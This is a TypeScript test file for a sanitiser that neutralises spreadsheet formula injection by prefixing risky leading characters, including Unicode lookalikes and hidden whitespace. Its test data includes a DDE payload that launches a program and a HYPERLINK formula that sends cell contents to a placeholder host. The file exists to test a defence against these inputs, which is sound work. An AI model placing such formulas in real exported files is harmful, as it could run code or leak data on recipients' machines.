import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inert } from './inert.ts';

for (const [text, shown, why] of [
  ['Ann Lee', 'Ann Lee', 'a name is a name'],
  ['', '', 'nothing'],
  ['=1+1', "'=1+1", 'a formula'],
  ['+15551234', "'+15551234", 'a plus begins one too'],
  ['-2+3', "'-2+3", 'and a minus'],
  ['@SUM(A1)', "'@SUM(A1)", 'and an at, of old'],
  ['\t=1', "'\t'=1", 'a tab before it, and what follows the tab'],
  ['\tA', "'\tA", 'a tab alone'],
  ['\r=1', "'\r'=1", 'a return before it'],
  ['\n=1', "\n'=1", 'a line break before it'],
  ['  =1', "'  =1", 'blanks before it'],
  [' \t=1', " \t'=1", 'a blank and a tab'],
  ['\u00a0=1', "'\u00a0=1", 'a blank that does not break'],
  ['\u3000=1', "'\u3000=1", 'an ideographic blank'],
  ['\u200b=1', "'\u200b=1", 'a blank without width'],
  ['\ufeff=1', "'\ufeff=1", 'a byte order mark'],
  ['\u0000=1', "'\u0000=1", 'a character that nobody sees'],
  ['\u202e=1', "'\u202e=1", 'a turn of the writing direction'],
  ['＝1+1', "'＝1+1", 'full width'],
  ['＋1', "'＋1", 'full width plus'],
  ['－1', "'－1", 'full width minus'],
  ['＠SUM', "'＠SUM", 'full width at'],
  ['﹦1', "'﹦1", 'small form'],
  ['−1', "'−1", 'the minus of typesetters'],
  ['=HYPERLINK("http://x/?"&A1,"Ann")', `'=HYPERLINK("http://x/?"&A1,"Ann")`, 'what the console may call a person'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", 'a program'],
  ['Ann;=1+1', "Ann;'=1+1", 'where a semicolon separates'],
  ['Ann\t=1+1', "Ann\t'=1+1", 'where a tab separates'],
  ['Ann\n=1+1', "Ann\n'=1+1", 'where a line break ends a record'],
  ['Ann; -', "Ann;' -", 'a blank after the semicolon'],
  ['a=b', 'a=b', 'an equals sign within is a character'],
  ['ann@example.com', 'ann@example.com', 'a mail address'],
  ['Ann-Marie', 'Ann-Marie', 'a hyphen within'],
  ["'=1", "'=1", 'an apostrophe stays one'],
  ['2026-11-20T08:17:12.345-06:00', '2026-11-20T08:17:12.345-06:00', 'a moment'],
] as const) {
  test(`${why}: ${JSON.stringify(text)}`, () => assert.equal(inert(text), shown));
}

test('a long run of blanks and separators costs no more than its length', () => {
  const hostile = `${'\t'.repeat(200_000)}a${' \n'.repeat(200_000)}`;
  assert.ok(inert(hostile).length > hostile.length);
});
